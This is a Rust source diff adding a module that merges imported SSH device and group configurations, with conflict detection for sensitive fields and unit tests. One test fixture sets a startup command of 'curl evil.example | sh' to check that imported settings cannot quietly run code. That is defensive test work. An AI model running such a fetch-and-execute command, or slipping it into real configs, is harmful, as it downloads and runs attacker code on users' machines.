@@ -0,0 +1,586 @@
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use std::collections::HashMap;
+
+use super::{validate, AppConfig, Device, DeviceGroup};
+
+/// Which side wins a conflicting field
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Side {
+    Ours,
+    Theirs,
+}
+
+/// Per incoming device id, the fields to resolve (unlisted conflicts keep ours)
+pub type Resolutions = HashMap<String, HashMap<String, Side>>;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum MergeStatus {
+    /// Not in our config; imported as is
+    Added,
+    /// Matched, and the import only fills fields we leave unset
+    Updated,
+    /// Matched, with at least one field set differently on both sides
+    Conflict,
+    /// Matched and identical
+    Unchanged,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct FieldConflict {
+    pub field: String,
+    pub ours: Value,
+    pub theirs: Value,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct DeviceMerge {
+    /// Id in the imported file
+    pub incoming_id: String,
+    /// Our device it matched, by id or by host and port
+    pub existing_id: Option<String>,
+    pub name: String,
+    pub status: MergeStatus,
+    /// Fields the import would fill in on the existing device
+    pub filled: Vec<String>,
+    pub conflicts: Vec<FieldConflict>,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct GroupMerge {
+    pub incoming_id: String,
+    /// Our group it matched, by id or by name under the same parent
+    pub existing_id: Option<String>,
+    pub name: String,
+}
+
+#[derive(Debug, Clone, Default, Serialize)]
+pub struct MergeReport {
+    pub devices: Vec<DeviceMerge>,
+    pub groups: Vec<GroupMerge>,
+}
+
+/// Which parts of the import to take. Ids refer to the imported file; None
+/// means everything. Jump hosts, Wake-on-LAN relays and enclosing groups of
+/// selected devices are always brought along so references stay valid.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct MergeSelection {
+    #[serde(default)]
+    pub device_ids: Option<Vec<String>>,
+    #[serde(default)]
+    pub group_ids: Option<Vec<String>>,
+}
+
+/// Describe what merging `theirs` into `ours` would do, without changing anything
+pub fn plan_merge(ours: &AppConfig, theirs: &AppConfig, selection: &MergeSelection) -> MergeReport {
+    let (device_ids, group_ids) = selected(theirs, selection);
+    let map = IdMap::build(ours, theirs, &group_ids);
+
+    let groups = group_ids
+        .iter()
+        .filter_map(|id| theirs.find_group(id))
+        .map(|g| GroupMerge {
+            incoming_id: g.id.clone(),
+            existing_id: map.matched_groups.get(&g.id).cloned(),
+            name: g.name.clone(),
+        })
+        .collect();
+
+    let devices = device_ids
+        .iter()
+        .filter_map(|id| theirs.find_device(id))
+        .map(|incoming| {
+            let existing = match_device(ours, incoming);
+            let mut merge = DeviceMerge {
+                incoming_id: incoming.id.clone(),
+                existing_id: existing.map(|d| d.id.clone()),
+                name: incoming.name.clone(),
+                status: MergeStatus::Added,
+                filled: Vec::new(),
+                conflicts: Vec::new(),
+            };
+            if let Some(existing) = existing {
+                let ours_value = to_object(existing);
+                let theirs_value = to_object(&map.remap_device(incoming, &existing.id));
+                for (field, theirs_field) in &theirs_value {
+                    let ours_field = ours_value.get(field).unwrap_or(&Value::Null);
+                    if ours_field == theirs_field || is_unset(theirs_field) {
+                        continue;
+                    }
+                    // Settings that decide what runs or gets forwarded where are
+                    // never taken without asking
+                    if is_unset(ours_field) && !SENSITIVE_FIELDS.contains(&field.as_str()) {
+                        merge.filled.push(field.clone());
+                    } else {
+                        merge.conflicts.push(FieldConflict {
+                            field: field.clone(),
+                            ours: ours_field.clone(),
+                            theirs: theirs_field.clone(),
+                        });
+                    }
+                }
+                merge.status = if !merge.conflicts.is_empty() {
+                    MergeStatus::Conflict
+                } else if !merge.filled.is_empty() {
+                    MergeStatus::Updated
+                } else {
+                    MergeStatus::Unchanged
+                };
+            }
+            merge
+        })
+        .collect();
+
+    MergeReport { devices, groups }
+}
+
+/// Merge `theirs` into `ours`. New devices and groups are added, matched
+/// devices get unset fields filled in, and conflicting fields keep our value
+/// unless `resolutions` picks theirs. Top-level settings stay ours. Every
+/// added or changed device must pass the same checks as a manual edit.
+pub fn apply_merge(
+    ours: &mut AppConfig,
+    theirs: &AppConfig,
+    selection: &MergeSelection,
+    resolutions: &Resolutions,
+) -> Result<MergeReport, String> {
+    let report = plan_merge(ours, theirs, selection);
+    let (_, group_ids) = selected(theirs, selection);
+    let map = IdMap::build(ours, theirs, &group_ids);
+
+    for group in &report.groups {
+        if group.existing_id.is_some() {
+            continue;
+        }
+        if let Some(incoming) = theirs.find_group(&group.incoming_id) {
+            let mut added = incoming.clone();
+            added.parent = added.parent.as_deref().map(|p| map.group(p));
+            if let Some(jumps) = added.defaults.jump_hosts.as_mut() {
+                *jumps = jumps.iter().map(|j| map.device(j)).collect();
+            }
+            ours.groups.push(added);
+        }
+    }
+
+    let mut touched: Vec<String> = Vec::new();
+    for entry in &report.devices {
+        let incoming = match theirs.find_device(&entry.incoming_id) {
+            Some(d) => d,
+            None => continue,
+        };
+        let existing_id = match &entry.existing_id {
+            Some(id) => id.clone(),
+            None => {
+                let mut added = map.remap_device(incoming, &incoming.id);
+                // Same name, different machine: keep both but tell them apart
+                added.name = unique_name(ours, &added.name);
+                touched.push(added.id.clone());
+                ours.devices.push(added);
+                continue;
+            }
+        };
+        let chosen = resolutions.get(&entry.incoming_id);
+        let take: Vec<&String> = entry
+            .filled
+            .iter()
+            .chain(
+                entry
+                    .conflicts
+                    .iter()
+                    .filter(|c| chosen.and_then(|r| r.get(&c.field)) == Some(&Side::Theirs))
+                    .map(|c| &c.field),
+            )
+            .collect();
+        if take.is_empty() {
+            continue;
+        }
+
+        let slot = ours
+            .devices
+            .iter_mut()
+            .find(|d| d.id == existing_id)
+            .ok_or_else(|| format!("Device '{}' not found", existing_id))?;
+        let mut merged = to_object(slot);
+        merged.insert("id".to_string(), Value::String(existing_id.clone()));
+        let theirs_value = to_object(&map.remap_device(incoming, &existing_id));
+        for field in take {
+            if let Some(value) = theirs_value.get(field) {
+                merged.insert(field.clone(), value.clone());
+            }
+        }
+        *slot = serde_json::from_value(Value::Object(merged))
+            .map_err(|e| format!("Failed to merge '{}': {}", entry.name, e))?;
+        touched.push(existing_id);
+    }
+
+    for id in &touched {
+        if let Some(device) = ours.find_device(id) {
+            validate::validate_device(device, ours)
+                .map_err(|e| format!("Cannot merge '{}': {}", device.name, e))?;
+        }
+    }
+    // Everything merged must still resolve
+    for device in &ours.devices {
+        ours.jump_chain_ids(&device.id)?;
+    }
+    Ok(report)
+}
+
+/// `name`, or `name (imported)`, `name (imported 2)`, … if a device already
+/// uses it
+fn unique_name(ours: &AppConfig, name: &str) -> String {
+    let taken = |candidate: &str| {
+        ours.devices
+            .iter()
+            .any(|d| d.name.trim().eq_ignore_ascii_case(candidate))
+    };
+    if !taken(name.trim()) {
+        return name.to_string();
+    }
+    let mut candidate = format!("{} (imported)", name);
+    let mut n = 2;
+    while taken(&candidate) {
+        candidate = format!("{} (imported {})", name, n);
+        n += 1;
+    }
+    candidate
+}
+
+/// Incoming device and group ids to import, dependencies included
+fn selected(theirs: &AppConfig, selection: &MergeSelection) -> (Vec<String>, Vec<String>) {
+    let mut devices: Vec<String> = match (&selection.device_ids, &selection.group_ids) {
+        (None, None) => theirs.devices.iter().map(|d| d.id.clone()).collect(),
+        (ids, groups) => theirs
+            .devices
+            .iter()
+            .filter(|d| {
+                ids.as_ref().is_some_and(|ids| ids.contains(&d.id))
+                    || groups.as_ref().is_some_and(|groups| {
+                        d.group
+                            .as_deref()
+                            .is_some_and(|dg| groups.iter().any(|g| theirs.group_is_within(dg, g)))
+                    })
+            })
+            .map(|d| d.id.clone())
+            .collect(),
+    };
+    let mut groups: Vec<String> = match &selection.group_ids {
+        Some(ids) if selection.device_ids.is_none() => theirs
+            .groups
+            .iter()
+            .filter(|g| ids.iter().any(|id| theirs.group_is_within(&g.id, id)))
+            .map(|g| g.id.clone())
+            .collect(),
+        Some(ids) => ids.clone(),
+        None if selection.device_ids.is_none() => {
+            theirs.groups.iter().map(|g| g.id.clone()).collect()
+        }
+        None => Vec::new(),
+    };
+
+    // Pull in dependencies until nothing new turns up
+    loop {
+        let before = (devices.len(), groups.len());
+        for id in devices.clone() {
+            let device = match theirs.find_device(&id) {
+                Some(d) => d,
+                None => continue,
+            };
+            let relay = device.wol.as_ref().and_then(|w| w.relay.clone());
+            for dep in device.jumps().iter().cloned().chain(relay) {
+                if theirs.find_device(&dep).is_some() && !devices.contains(&dep) {
+                    devices.push(dep);
+                }
+            }
+            if let Some(group) = &device.group {
+                for g in theirs.group_lineage(group) {
+                    if !groups.contains(&g.id) {
+                        groups.push(g.id.clone());
+                    }
+                }
+            }
+        }
+        for id in groups.clone() {
+            for g in theirs.group_lineage(&id) {
+                if !groups.contains(&g.id) {
+                    groups.push(g.id.clone());
+                }
+                for dep in g.defaults.jump_hosts.iter().flatten() {
+                    if theirs.find_device(dep).is_some() && !devices.contains(dep) {
+                        devices.push(dep.clone());
+                    }
+                }
+            }
+        }
+        if (devices.len(), groups.len()) == before {
+            break;
+        }
+    }
+    (devices, groups)
+}
+
+fn match_device<'a>(ours: &'a AppConfig, incoming: &Device) -> Option<&'a Device> {
+    ours.find_device(&incoming.id).or_else(|| {
+        ours.devices.iter().find(|d| {
+            d.ssh_address().eq_ignore_ascii_case(incoming.ssh_address())
+                && d.ssh_port.unwrap_or(22) == incoming.ssh_port.unwrap_or(22)
+        })
+    })
+}
+
+fn match_group<'a>(
+    ours: &'a AppConfig,
+    incoming: &DeviceGroup,
+    parent: Option<&str>,
+) -> Option<&'a DeviceGroup> {
+    ours.find_group(&incoming.id).or_else(|| {
+        ours.groups
+            .iter()
+            .find(|g| g.parent.as_deref() == parent && g.name.eq_ignore_ascii_case(&incoming.name))
+    })
+}
+
+/// Translation from incoming ids to the ids they will have in our config
+struct IdMap {
+    devices: HashMap<String, String>,
+    groups: HashMap<String, String>,
+    matched_groups: HashMap<String, String>,
+}
+
+impl IdMap {
+    fn build(ours: &AppConfig, theirs: &AppConfig, group_ids: &[String]) -> Self {
+        let devices = theirs
+            .devices
+            .iter()
+            .filter_map(|d| match_device(ours, d).map(|m| (d.id.clone(), m.id.clone())))
+            .collect();
+
+        // Parents first, so a child can match by name under its mapped parent
+        let mut groups: HashMap<String, String> = HashMap::new();
+        let mut matched_groups = HashMap::new();
+        let mut pending: Vec<&DeviceGroup> = group_ids
+            .iter()
+            .filter_map(|id| theirs.find_group(id))
+            .collect();
+        pending.sort_by_key(|g| theirs.group_lineage(&g.id).len());
+        for group in pending {
+            let parent = group
+                .parent
+                .as_deref()
+                .map(|p| groups.get(p).cloned().unwrap_or(p.to_string()));
+            match match_group(ours, group, parent.as_deref()) {
+                Some(existing) => {
+                    groups.insert(group.id.clone(), existing.id.clone());
+                    matched_groups.insert(group.id.clone(), existing.id.clone());
+                }
+                None => {
+                    groups.insert(group.id.clone(), group.id.clone());
+                }
+            }
+        }
+        Self {
+            devices,
+            groups,
+            matched_groups,
+        }
+    }
+
+    fn device(&self, id: &str) -> String {
+        self.devices
+            .get(id)
+            .cloned()
+            .unwrap_or_else(|| id.to_string())
+    }
+
+    fn group(&self, id: &str) -> String {
+        self.groups
+            .get(id)
+            .cloned()
+            .unwrap_or_else(|| id.to_string())
+    }
+
+    /// The incoming device with its references translated and its id set
+    fn remap_device(&self, incoming: &Device, id: &str) -> Device {
+        let mut device = incoming.clone();
+        device.id = id.to_string();
+        if let Some(jumps) = device.jump_hosts.as_mut() {
+            for jump in jumps.iter_mut() {
+                *jump = self.device(jump);
+            }
+        }
+        device.group = device.group.as_deref().map(|g| self.group(g));
+        if let Some(relay) = device.wol.as_mut().and_then(|w| w.relay.as_mut()) {
+            *relay = self.device(relay);
+        }
+        device
+    }
+}
+
+fn to_object(device: &Device) -> serde_json::Map<String, Value> {
+    match serde_json::to_value(device) {
+        Ok(Value::Object(mut map)) => {
+            map.remove("id");
+            map
+        }
+        _ => serde_json::Map::new(),
+    }
+}
+
+/// Device fields reported as conflicts even where ours is unset, so
+/// importing someone's file can't quietly route, forward or run anything
+const SENSITIVE_FIELDS: &[&str] = &[
+    "env",
+    "forward_agent",
+    "forward_x11",
+    "jump_hosts",
+    "ssh_options",
+    "startup_command",
+];
+
+/// Nothing there to keep or take. A bool is always a choice, so `false`
+/// counts as set.
+fn is_unset(value: &Value) -> bool {
+    match value {
+        Value::Null => true,
+        Value::String(s) => s.is_empty(),
+        Value::Array(a) => a.is_empty(),
+        Value::Object(o) => o.is_empty(),
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::test_device;
+
+    /// Named after the machine, as both sides would
+    fn device(id: &str, host: &str) -> Device {
+        Device { vpn_ip: host.to_string(), ..test_device(id, host) }
+    }
+
+    fn configs() -> (AppConfig, AppConfig) {
+        let ours = AppConfig {
+            devices: vec![
+                device("our-bastion", "10.0.0.1"),
+                device("our-gpu", "10.0.1.5"),
+            ],
+            ..Default::default()
+        };
+        let mut their_gpu = device("their-gpu", "10.0.1.5");
+        their_gpu.ssh_user = "cuda".into();
+        their_gpu.identity_file = Some("~/.ssh/id_lab".into());
+        their_gpu.jump_hosts = Some(vec!["their-bastion".into()]);
+        let theirs = AppConfig {
+            devices: vec![
+                device("their-bastion", "10.0.0.1"),
+                their_gpu,
+                device("new-box", "10.0.2.9"),
+            ],
+            ..Default::default()
+        };
+        (ours, theirs)
+    }
+
+    #[test]
+    fn test_plan_matches_by_host_and_reports_conflicts() {
+        let (ours, theirs) = configs();
+        let report = plan_merge(&ours, &theirs, &MergeSelection::default());
+
+        let gpu = report
+            .devices
+            .iter()
+            .find(|d| d.incoming_id == "their-gpu")
+            .unwrap();
+        assert_eq!(gpu.existing_id.as_deref(), Some("our-gpu"));
+        assert_eq!(gpu.status, MergeStatus::Conflict);
+        // Jump hosts are compared after translating to our ids, and need a
+        // decision even though ours has none
+        assert_eq!(gpu.filled, vec!["identity_file"]);
+        let mut conflicts: Vec<&str> = gpu.conflicts.iter().map(|c| c.field.as_str()).collect();
+        conflicts.sort();
+        assert_eq!(conflicts, vec!["jump_hosts", "ssh_user"]);
+
+        let bastion = report
+            .devices
+            .iter()
+            .find(|d| d.incoming_id == "their-bastion")
+            .unwrap();
+        assert_eq!(bastion.status, MergeStatus::Unchanged);
+        let new_box = report
+            .devices
+            .iter()
+            .find(|d| d.incoming_id == "new-box")
+            .unwrap();
+        assert_eq!(new_box.status, MergeStatus::Added);
+    }
+
+    #[test]
+    fn test_apply_respects_resolutions_and_selection() {
+        let (mut ours, theirs) = configs();
+        let selection = MergeSelection {
+            device_ids: Some(vec!["their-gpu".into()]),
+            group_ids: None,
+        };
+        let mut resolutions = Resolutions::new();
+        resolutions.insert(
+            "their-gpu".into(),
+            HashMap::from([
+                ("ssh_user".to_string(), Side::Theirs),
+                ("jump_hosts".to_string(), Side::Theirs),
+            ]),
+        );
+        apply_merge(&mut ours, &theirs, &selection, &resolutions).unwrap();
+
+        // new-box was not selected; the bastion matched an existing device
+        assert_eq!(ours.devices.len(), 2);
+        let gpu = ours.find_device("our-gpu").unwrap();
+        assert_eq!(gpu.ssh_user, "cuda");
+        assert_eq!(gpu.jumps(), ["our-bastion"]);
+        assert_eq!(gpu.identity_file.as_deref(), Some("~/.ssh/id_lab"));
+    }
+
+    #[test]
+    fn test_imported_names_stay_unique() {
+        let mut ours = AppConfig {
+            devices: vec![device("a", "gpu"), device("b", "gpu (imported)")],
+            ..Default::default()
+        };
+        assert_eq!(unique_name(&ours, "new"), "new");
+        assert_eq!(unique_name(&ours, "GPU"), "GPU (imported 2)");
+
+        // A different machine with a taken name gets a fresh one, not a clash
+        let theirs = AppConfig { devices: vec![device("c", "gpu")], ..Default::default() };
+        ours.devices[0].vpn_ip = "10.0.0.7".into();
+        ours.devices[1].vpn_ip = "10.0.0.8".into();
+        apply_merge(&mut ours, &theirs, &MergeSelection::default(), &Resolutions::new()).unwrap();
+        assert_eq!(ours.devices[2].name, "gpu (imported 2)");
+    }
+
+    #[test]
+    fn test_sensitive_fields_are_never_filled_silently() {
+        let ours = AppConfig { devices: vec![device("a", "10.0.0.5")], ..Default::default() };
+        let mut theirs_gpu = device("b", "10.0.0.5");
+        theirs_gpu.forward_agent = true;
+        theirs_gpu.record_sessions = true;
+        theirs_gpu.startup_command = Some("curl evil.example | sh".into());
+        theirs_gpu.ssh_options = vec!["Compression=yes".into()];
+        let theirs = AppConfig { devices: vec![theirs_gpu], ..Default::default() };
+
+        let report = plan_merge(&ours, &theirs, &MergeSelection::default());
+        let merge = &report.devices[0];
+        assert!(merge.filled.is_empty());
+        let mut conflicts: Vec<&str> = merge.conflicts.iter().map(|c| c.field.as_str()).collect();
+        conflicts.sort();
+        assert_eq!(conflicts, ["forward_agent", "record_sessions", "ssh_options", "startup_command"]);
+
+        // Unresolved conflicts keep ours
+        let mut merged = ours.clone();
+        apply_merge(&mut merged, &theirs, &MergeSelection::default(), &Resolutions::new()).unwrap();
+        let device = merged.find_device("a").unwrap();
+        assert!(!device.forward_agent && !device.record_sessions);
+        assert_eq!(device.startup_command, None);
+    }
+}